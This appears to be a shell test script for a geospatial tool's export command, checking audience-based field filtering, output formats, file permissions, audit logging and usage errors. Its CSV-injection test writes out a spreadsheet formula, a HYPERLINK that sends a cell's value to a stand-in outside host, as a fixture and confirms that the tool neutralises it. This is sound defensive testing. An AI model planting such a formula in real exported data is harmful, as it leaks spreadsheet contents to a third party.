#!/bin/sh
# test_export_cli.sh: `sinspace export` end to end, read back by the
# command-line tools a researcher uses: ogrinfo for every format, and two
# independent GeoJSON validators from npm (tests/geojson_check.js; installed
# by scripts/deps-npm.sh; without them this test reports SKIP, exit 77,
# after every other check has passed).
set -eu
B=${SINSPACE_BIN:?}
SRC=${SINSPACE_SOURCE_ROOT:?}
T=$(mktemp -d)
trap 'rm -rf "$T"' EXIT
passed=0
fail() { echo "FAIL: $*"; echo "export_cli: $passed passed, 1 failed"; exit 1; }
ok() { passed=$((passed + 1)); }
count_of() { ogrinfo -ro -so -al "$1" 2>/dev/null | sed -n 's/^Feature Count: //p' | head -1; }
mode_of() { stat -c %a "$1"; }

DB=$T/db.sqlite
"$B" -q init "$DB"
"$B" -q import "$DB" "$SRC/tests/data/chiang_mai_amphoe.geojson" --level district
"$B" -q import "$DB" "$SRC/tests/data/chiang_mai_tambon.geojson" --level subdistrict
"$B" -q import "$DB" "$SRC/tests/data/export_workplaces.csv"

# Audiences: count, mode, fields.
for aud in public partner internal; do
  "$B" -q export "$DB" workplaces -o "$T/w-$aud.geojson" --audience "$aud"
  [ "$(count_of "$T/w-$aud.geojson")" = 80 ] || fail "$aud: ogrinfo count"
  [ "$(mode_of "$T/w-$aud.geojson")" = 600 ] || fail "$aud: mode"
  ok
done
fields() { ogrinfo -ro -so -al "$1" | sed -n 's/^\([a-z_0-9]*\): .*/\1/p' | tr '\n' ' '; }
[ "$(fields "$T/w-public.geojson")" = "sector status risk risk_class district first_seen last_seen " ] \
  || fail "public fields: $(fields "$T/w-public.geojson")"
[ "$(fields "$T/w-partner.geojson")" = "id name name_local sector status risk risk_class area first_seen last_seen " ] \
  || fail "partner fields: $(fields "$T/w-partner.geojson")"
grep -q '"observer":"observer 1"' "$T/w-internal.geojson" || fail "internal lacks observer"
grep -q '"audience":"public"' "$T/w-public.geojson" || fail "public lacks its audience"
ok

# Every format and layer that has rows.
for ext in gpkg shp kml fgb csv geojsons geojsonl; do
  "$B" -q export "$DB" workplaces -o "$T/f.$ext" --audience partner
  [ "$(count_of "$T/f.$ext")" = 80 ] || fail "$ext: count $(count_of "$T/f.$ext")"
  "$B" -q export "$DB" areas -o "$T/a.$ext"
  [ "$(count_of "$T/a.$ext")" = 229 ] || fail "areas $ext: count"
  for f in "$T"/f.* "$T"/a.*; do
    [ "$(mode_of "$f")" = 600 ] || fail "$f: mode $(mode_of "$f")"
  done
  ok
done
ogrinfo -ro -so "$T/f.gpkg" workplaces | grep -q 'SINSPACE_AUDIENCE=partner' || fail "gpkg metadata"
ok

# Standard output, GeoJSONSeq by --format, precision, bbox.
"$B" -q export "$DB" workplaces -o - --audience partner --precision 3 --bbox-member > "$T/stdout.geojson"
[ "$(count_of "$T/stdout.geojson")" = 80 ] || fail "stdout count"
grep -q '"coordinates":\[99.005,18.769\]' "$T/stdout.geojson" || fail "precision 3"
grep -q '"bbox":\[' "$T/stdout.geojson" || fail "bbox member"
"$B" -q export "$DB" areas -o "$T/a.geojson" --audience internal --bbox-member
[ "$(count_of "$T/a.geojson")" = 229 ] || fail "areas GeoJSON"
"$B" -q export "$DB" observations -o "$T/obs.txt" --format GeoJSONSeq
[ "$(count_of "$T/obs.txt")" = 71 ] || fail "GeoJSONSeq by --format"
"$B" -q export "$DB" workplaces -o "$T/agg.geojson" --aggregate --level subdistrict --min-count 3
[ "$(count_of "$T/agg.geojson")" = 204 ] || fail "aggregate"
"$B" -q export "$DB" workplaces -o "$T/fang.geojson" --area fang --audience partner
[ "$(count_of "$T/fang.geojson")" = "$(sqlite3 "$DB" "SELECT count(*) FROM workplaces WHERE area_code LIKE 'fang/%'")" ] \
  || fail "--area fang"
ok

# Usage errors exit 2 and write nothing.
st=0; "$B" -q export "$DB" workplaces -o "$T/x.geojson" --audience intern 2>/dev/null || st=$?
[ $st = 2 ] || fail "--audience intern: exit $st"
st=0; "$B" -q export "$DB" people -o "$T/x.geojson" 2>/dev/null || st=$?
[ $st = 2 ] || fail "unknown layer: exit $st"
st=0; "$B" -q export "$DB" workplaces 2>/dev/null || st=$?
[ $st = 2 ] || fail "no -o: exit $st"
st=0; "$B" -q export "$DB" workplaces -o - --format GPKG >/dev/null 2>&1 || st=$?
[ $st = 2 ] || fail "GPKG to stdout: exit $st"
[ ! -e "$T/x.geojson" ] || fail "a failed export left a file"
ok

# Every export was audited.
n=$(sqlite3 "$DB" "SELECT count(*) FROM audit WHERE command = 'export'")
[ "$n" = 22 ] || fail "audit rows: $n"
sqlite3 "$DB" "SELECT audience || ' ' || rows FROM audit WHERE command = 'export' AND target LIKE 'workplaces -> %w-internal.geojson (GeoJSON)'" \
  | grep -qx 'internal 80' || fail "audit row of the internal export"
ok

# CSV injection: a name a spreadsheet would run as a formula (=, +, -, @)
# is written with an apostrophe inside its cell, by query and by export;
# a number that starts with a minus sign is left alone.
FDB=$T/formula.sqlite
"$B" -q init "$FDB"
cat > "$T/formula.csv" <<'CSV'
id,name,sector,lon,lat,observed,risk
F1,"=HYPERLINK(""http://x.example/?""&A1,""x"")",karaoke_bar,98.98,18.79,2025-01-01,2.0
F2,-Minus Bar,brothel,98.981,18.791,2025-01-01,1.5
F3,-12.5,brothel,98.982,18.792,2025-01-01,1.5
F4,@SUM(A1),brothel,98.983,18.792,2025-01-01,1.5
F5,Plain Bar,brothel,98.984,18.792,2025-01-01,1.5
CSV
"$B" -q import "$FDB" "$T/formula.csv"
"$B" -q query "$FDB" --bbox 98,18,99,19 --format csv > "$T/fq.csv"
grep -qx 'F1,"'"'"'=HYPERLINK(""http://x.example/?""&A1,""x"")",karaoke_bar,2.000,medium,98.980000,18.790000,,2025-01-01' "$T/fq.csv" \
  || fail "query CSV formula: $(cat "$T/fq.csv")"
grep -q "^F2,'-Minus Bar," "$T/fq.csv" || fail "query CSV minus"
grep -q "^F3,-12.5," "$T/fq.csv" || fail "query CSV number touched"
grep -q "^F4,'@SUM(A1)," "$T/fq.csv" || fail "query CSV at-sign"
grep -q "^F5,Plain Bar," "$T/fq.csv" || fail "query CSV plain"
"$B" -q export "$FDB" workplaces -o "$T/fe.csv" --audience partner
grep -q ",F1,\"'=HYPERLINK(" "$T/fe.csv" || fail "export CSV formula: $(cat "$T/fe.csv")"
grep -q ",F4,'@SUM(A1)," "$T/fe.csv" || fail "export CSV at-sign"
grep -q ',F3,"\?-12.5"\?,' "$T/fe.csv" || fail "export CSV number touched"
# GeoJSON is not a spreadsheet format: names go out as they are.
"$B" -q export "$FDB" workplaces -o "$T/fe.geojson" --audience partner
grep -q '"name":"=HYPERLINK(' "$T/fe.geojson" || fail "GeoJSON name changed"
ok

# The independent validators.
if ! command -v node >/dev/null 2>&1 || [ ! -d "$SRC/tests/node/node_modules/@placemarkio/check-geojson" ] \
   || [ ! -d "$SRC/tests/node/node_modules/geojson-validation" ]; then
  # CI installs them (scripts/test.sh runs scripts/deps-npm.sh): there a
  # missing validator is a failure, never a silent skip.
  if [ "${CI:-}" = true ]; then
    fail "GeoJSON validators not installed in CI (scripts/deps-npm.sh)"
  fi
  echo "SKIP: GeoJSON validators not installed (run scripts/deps-npm.sh)"
  echo "export_cli: $passed passed, 0 failed"
  exit 77
fi
for f in w-public w-partner w-internal stdout agg fang a; do
  file="$T/$f.geojson"
  out=$(node "$SRC/tests/geojson_check.js" "$file" 2>&1) || fail "$f: $out"
done
for f in obs.txt f.geojsons f.geojsonl a.geojsons; do
  out=$(node "$SRC/tests/geojson_check.js" "$T/$f" --seq 2>&1) || fail "$f: $out"
done
ok
echo "export_cli: $passed passed, 0 failed"
